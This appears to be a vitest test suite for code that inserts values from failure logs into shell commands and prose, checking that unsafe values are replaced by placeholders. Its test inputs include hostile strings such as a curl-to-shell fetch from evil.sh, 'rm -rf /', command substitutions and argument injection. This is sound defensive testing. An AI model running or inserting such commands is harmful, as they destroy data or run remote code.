import { describe, expect, it } from 'vitest';
import { fillCommand, fillProse, markedAgain, templateValues } from '../../../src/core/classify/template.js';
import { quote, unmarked } from '../../../src/core/domain/quoted.js';
import { failure } from './failures.js';

const values = (address: string) => templateValues(['address', 'other_name'], { address }, failure('boom\nmore'));

describe('the command that runs one failing test', () => {
  const filled = (command: string, oneTest?: string) =>
    fillCommand(command, templateValues([], {}, failure('boom'), oneTest));

  it('stands as it was made, with what an author adds to it', () => {
    expect(filled('A=1 {one_test|runner NAME} -v', "runner 'a (b)'")).toBe("A=1 runner 'a (b)' -v");
  });

  it('gives way to what to run else', () => {
    expect(filled("{one_test|runner 'CLASS.METHOD'} -v")).toBe("runner 'CLASS.METHOD' -v");
  });

  it('is nothing that a log may say', () => {
    const values = templateValues(['one_test'], { one_test: '; rm -rf /' }, failure('boom'));
    expect(fillCommand('{one_test|runner}', values)).toBe('runner');
  });
});

describe('what a log says in a command', () => {
  it.each([
    'x;curl${IFS}evil.sh|sh',
    '$(id)',
    '`id`',
    'a b',
    'a\nb',
    '"',
    "'",
    '\\',
    '>out',
    '~',
    '~root/x',
    'a=~/x',
    'a:~/x',
    '*',
    '--upload-pack=x',
    '-',
    'a'.repeat(201),
    'é',
  ])('is no part of it where it could change what it does: %j', (address) => {
    expect(fillCommand('ping {address}', values(address))).toBe('ping ADDRESS');
  });

  it.each(['db:5432', 'src/a_b.py', 'user@host', '1.2+3=4,5', 'a-b', '/kubernetes.io~empty-dir/x', 'a'.repeat(200)])(
    'stands in it else: %j',
    (address) => {
      expect(fillCommand('ping {address}', values(address))).toBe(`ping ${address}`);
    },
  );

  it.each(['adds an item', "doesn't add > 3, or #4", 'a b/c.js'])('stands between double quotes: %j', (address) => {
    expect(fillCommand('npm test -- -t "{address}"', values(address))).toBe(`npm test -- -t "${address}"`);
    expect(fillCommand('npm test -- -t {address}', values('a b'))).toBe('npm test -- -t ADDRESS');
  });

  it.each([
    'a "b" c',
    'a $b',
    'a `b`',
    'a\\',
    'a\nb',
    'a !b',
    '-t x',
    ' a',
    '~ a',
    'a (b)',
    'a; b',
    'é f',
    `a ${'b'.repeat(199)}`,
  ])('stands not even there where a shell would read into it: %j', (address) => {
    expect(fillCommand('npm test -- -t "{address}"', values(address))).toBe('npm test -- -t "ADDRESS"');
  });

  it('stands not there where a quote in it could end another', () => {
    expect(fillCommand(`sh -c 'echo "{address}"'`, values("it's"))).toBe(`sh -c 'echo "ADDRESS"'`);
    expect(fillCommand('echo "{address} x"', values('a b'))).toBe('echo "ADDRESS x"');
  });

  it('what was not captured has its name, or what the pattern says instead', () => {
    expect(fillCommand('ping {address} {other_name} {facts.port} {other_name|x}', values(''))).toBe(
      'ping ADDRESS OTHER_NAME PORT x',
    );
    expect(fillCommand('awk {print} {0}', values(''))).toBe('awk {print} {0}');
  });
});

describe('what a log says in prose', () => {
  it('is marked as quoted', () => {
    expect(fillProse('`{address}` and {address} say {failure.message}', values('@all'))).toBe(
      `${quote('@all')} and ${quote('@all')} say ${quote('boom')}`,
    );
    expect(fillProse('{other_name} of {facts.port|a port}', values(''))).toBe('the other name of a port');
  });
});

describe('what was filled in, marked again', () => {
  const said = (prose: string, address: string) => fillProse(prose, values(address));

  it.each([
    ['The disk is full', 'x'],
    ['`{address}` is full', 'a.b'],
    ['Nothing at {address}', ''],
    ['{address|Something} (and {address}) is not there', 'db (1)'],
    ['{address|Something} is not there', ''],
  ])('is as it was: %j with %j', (prose, address) => {
    const text = said(prose, address);
    expect(markedAgain(prose, unmarked(text))).toBe(text);
  });

  it('is nothing where the text is another', () => {
    for (const text of ['The disk is fuller', 'x The disk is full', 'a'.repeat(2_000)])
      expect(markedAgain('The disk is full', text)).toBeUndefined();
  });

  it('takes the nearest place between two values, and the end for the last', () => {
    const prose = '{address} at {other_name} of {facts.port}';
    const marked = markedAgain(prose, 'a at b at c of d of e');
    expect(marked).toBe(`${quote('a')} at ${quote('b at c')} of ${quote('d of e')}`);
    expect(markedAgain('{address}, {other_name}, ', 'a, ')).toBeUndefined();
    expect(markedAgain('{address}{other_name}!', 'ab!')).toBe(`${quote('')}${quote('ab')}!`);
  });

  it('is looked for in one pass, whatever a forged report says', () => {
    const prose = `${'{address} is '.repeat(12)}full`;
    expect(markedAgain(prose, ' is '.repeat(300_000))).toBeUndefined();
    expect(markedAgain(prose, `${' is '.repeat(300_000)}full`)).toContain(' is full');
  });

  it('cannot end its quotation', () => {
    const text = `a\uE001 **b**`;
    expect(markedAgain('{address} is full', `${text} is full`)).toBe(`${quote(text)} is full`);
  });
});
